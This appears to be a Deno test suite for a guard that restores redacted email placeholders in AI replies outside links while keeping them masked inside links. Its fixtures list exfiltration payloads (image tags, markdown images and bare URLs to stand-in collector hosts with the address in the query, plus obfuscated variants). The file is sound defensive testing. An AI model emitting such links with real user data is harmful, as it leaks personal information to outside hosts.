import { assertEquals } from "@a3s/common/testing";
import { insideLink, restoreOutsideLinks } from "./restore_links.ts";
import { createStreamRestorer } from "./stream_sanitizer.ts";
import { withGuard } from "./testdata/guard.ts";

const restore = (p: string) => p === "[EMAIL_1]" ? "ada@example.org" : p;

Deno.test("restoreOutsideLinks leaves placeholders in links, restores the rest", () => {
  assertEquals(
    restoreOutsideLinks("I am [EMAIL_1]; see https://x.example/p?d=[EMAIL_1]&n=1", restore),
    "I am ada@example.org; see https://x.example/p?d=[EMAIL_1]&n=1",
  );
  assertEquals(
    restoreOutsideLinks("[docs](https://x.example/[EMAIL_1])", restore),
    "[docs](https://x.example/[EMAIL_1])",
  );
  assertEquals(
    restoreOutsideLinks("go to www.x.example/[EMAIL_1] now", restore),
    "go to www.x.example/[EMAIL_1] now",
  );
  assertEquals(restoreOutsideLinks("(mail [EMAIL_1])", restore), "(mail ada@example.org)");
  // A link begun in the text before continues here.
  assertEquals(
    restoreOutsideLinks("d=[EMAIL_1] done", restore, "see https://x.example/?"),
    "d=[EMAIL_1] done",
  );
  assertEquals(insideLink("x".repeat(5000) + "[EMAIL_1]", 5000), true);
});

Deno.test("a stream puts placeholders back outside links, also when the link began a chunk before", () => {
  const r = createStreamRestorer((t, before) => restoreOutsideLinks(t, restore, before));
  const out =
    ["Mail [EMA", "IL_1] or open https://c.evil", ".example/p?d=[EMAIL", "_1] ok [EMAIL_1]"]
      .map((c) => r.push(c)).join("") + r.flush();
  assertEquals(
    out,
    "Mail ada@example.org or open https://c.evil.example/p?d=[EMAIL_1] ok ada@example.org",
  );
});

Deno.test("a reply's link keeps the user's own value as its placeholder; the text around gets it back", async () => {
  await withGuard(async (guard) => {
    const input = await guard.inspectInput({ session: "s", text: "I am ada@example.org" });
    const placeholder = input.text.match(/\[EMAIL_\d+\]/)![0];
    const scope = await guard.ownInputsScope("s");
    const reply = `Done, ${placeholder}: https://collector.evil.example/p?d=${placeholder}`;
    const out = await guard.sanitizeOutput("s", reply, "placeholder", scope);
    // Before, the platform fetched the preview of a link holding the user's address.
    assertEquals(out.text.startsWith("Done, ada@example.org: "), true, out.text);
    assertEquals(out.text.includes("d=ada@example.org"), false, out.text);
  }, { types: { url: "Normal" } });
});

Deno.test("every form a renderer or platform fetches counts as a link: the placeholder stays", () => {
  const fetched = [
    "![](//collector.example/p.png?e=[EMAIL_1])",
    "<img src=//collector.example/p.png?e=[EMAIL_1]>",
    '<img alt="x" src="https://collector.example/p.png?e= [EMAIL_1]">',
    "![](https:\\\\collector.example\\p.png?e=[EMAIL_1])",
    "![](https:/collector.example/p.png?e=[EMAIL_1])",
    "collector.com/?e=[EMAIL_1]",
    "see 203.0.113.9:8080/c?e=[EMAIL_1]",
    "[click](<https://collector.example/?e= [EMAIL_1]>)",
    "![x](https://collector.example/p.png?e=\n[EMAIL_1])",
  ];
  for (const text of fetched) {
    assertEquals(restoreOutsideLinks(text, restore), text, text);
    const r = createStreamRestorer((t, before) => restoreOutsideLinks(t, restore, before));
    let out = "";
    for (let i = 0; i < text.length; i += 3) out += r.push(text.slice(i, i + 3));
    assertEquals(out + r.flush(), text, `streamed: ${text}`);
  }
  // Text around links, and links that have ended, still get the value back.
  for (
    const [text, expected] of [
      ["Your address is [EMAIL_1].", "Your address is ada@example.org."],
      [
        "[docs](https://x.example/a) for [EMAIL_1]",
        "[docs](https://x.example/a) for ada@example.org",
      ],
      ["<b>mail</b> [EMAIL_1]", "<b>mail</b> ada@example.org"],
      ["e.g. [EMAIL_1] or 3/4 of it", "e.g. ada@example.org or 3/4 of it"],
    ]
  ) assertEquals(restoreOutsideLinks(text, restore), expected, text);
});
